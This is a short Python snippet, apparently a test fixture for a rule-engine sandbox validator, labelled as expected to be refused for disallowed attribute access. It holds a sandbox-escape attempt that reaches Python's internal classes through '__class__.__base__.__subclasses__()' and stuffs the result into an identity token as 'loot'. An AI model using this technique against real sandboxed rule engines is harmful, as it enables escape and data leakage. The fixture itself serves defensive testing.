# refused: attribute_not_allowed
class Spy:
    def look(self):
        return self.__class__.__base__.__subclasses__()


def rule(user, context):
    context.idToken.loot = str(Spy().look())
